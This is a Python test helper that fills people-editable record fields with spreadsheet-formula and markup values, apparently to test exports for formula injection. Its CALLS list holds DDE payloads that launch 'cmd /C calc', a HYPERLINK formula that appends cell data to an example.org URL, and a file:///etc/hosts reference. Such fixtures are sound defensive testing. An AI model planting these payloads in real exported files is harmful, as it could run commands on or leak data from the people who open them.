"""Words that are none: what would be a formula, markup or a number in a file, put in every place of a record that
people can fill."""

from __future__ import annotations

import dataclasses
from collections.abc import Iterator
from itertools import cycle, product
from typing import Any, TypeVar

BEFORE = ("", " ", "\t", "\n", "\u00a0", "\u200b", "\ufeff", "'", '"', "a;", 'a;"', "a\n", "a\t ", "'';")
CALLS = (
    "=1+1", "+1+1", "-2+3", "@SUM(1;2)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0", "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0", '=DDE("cmd";"/C calc";"x")', '=HYPERLINK("https://example.org/?"&A1;"look")',
    '=WEBSERVICE("https://example.org/")', "='file:///etc/hosts'#$x.A1", "＝1+1", "＋1+1", "－1+1", "＠SUM(1)", "﹦1+1",
    "- cmd|' /C calc'!A0",
)  # fmt: skip
ELSE = (
    "<r><t>x</t></r>", "<r>not closed</r>", "_x0041_", "<b>&amp;</b>", "0012", "1E5", "TRUE", "#REF!", "1/2",
    "2027-01-29", "https://example.org", "mailto:a@example.org", "internal:Run!A1", "sep=;", "{=1}", "%0A=1", "|", "\\",
)  # fmt: skip
FORMULAS = tuple(before + call for before, call in product(BEFORE, CALLS))
WORDS = (*FORMULAS, *ELSE)

OURS = {
    "ref", "about", "put_under", "topic_ref", "origin", "kind", "state", "began", "ended", "due", "name", "how", "word",
    "when", "from_part", "seat", "least",
}  # fmt: skip
"""Fields that hold numbers, days and names of ours, and no words of people."""

T = TypeVar("T")


def poisoned(thing: T, start: int = 0, words: tuple[str, ...] = WORDS) -> T:
    """A copy with such words in every field that people fill, one after the other from the one of that number on."""
    filled: T = _filled(thing, cycle((*words[start:], *words[:start])))
    return filled


def _filled(thing: Any, words: Iterator[str]) -> Any:
    if isinstance(thing, str):
        return next(words) if thing else thing
    if isinstance(thing, tuple):
        return tuple(_filled(one, words) for one in thing)
    if isinstance(thing, dict):
        return {key: _filled(one, words) for key, one in thing.items()}
    if dataclasses.is_dataclass(thing) and not isinstance(thing, type):
        fields = (field.name for field in dataclasses.fields(thing) if field.init)
        kept = OURS - {"about", "name", "when"} if type(thing).__name__ == "Attended" else OURS
        changed = {name: _filled(getattr(thing, name), words) for name in fields if name not in kept}
        return dataclasses.replace(thing, **changed)
    return thing
